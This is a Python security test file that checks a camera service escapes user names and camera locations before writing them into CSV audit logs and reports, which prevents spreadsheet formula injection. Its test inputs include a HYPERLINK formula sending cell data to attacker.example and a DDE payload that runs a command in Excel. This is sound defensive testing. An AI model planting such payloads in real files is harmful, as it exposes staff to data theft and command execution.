"""Threat: injection into the files staff open. The audit log and the periodic report are CSV files
(with a BOM, so they open in Excel); text an attacker controls (a user name typed at the login, a
camera location set by an installer) must reach them as text, never as a formula.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

from tests.security import service as svc

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_login_user_names_reach_the_audit_csv_as_text(service: svc.Service) -> None:
    anonymous = service.client()
    for name in FORMULAS:
        anonymous.post("/api/auth/login", json={"username": name, "password": "x"})
    text = service.client("admin").get("/api/audit.csv", params={"action": "login_failed"}).text
    names = {row[2] for row in _rows(text)[1:]}
    for name in FORMULAS:
        assert "'" + name in names and name not in names  # before the fix: the raw formula


def test_camera_location_reaches_the_report_csv_as_text(service: svc.Service) -> None:
    location = "=1+2+cmd|' /C calc'!A0"
    assert service.client("installer").patch(f"/api/cameras/{svc.CAMERA}", json={"location": location}).status_code == 200
    now = datetime.now(timezone.utc)
    text = service.client("operator").get("/api/reports/summary.csv", params={
        "start": (now - timedelta(days=1)).isoformat(), "end": (now + timedelta(hours=1)).isoformat()}).text
    rows = _rows(text)
    camera_row = next(row for row in rows if row and row[0] == svc.CAMERA)
    assert camera_row[2] == "'" + location
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
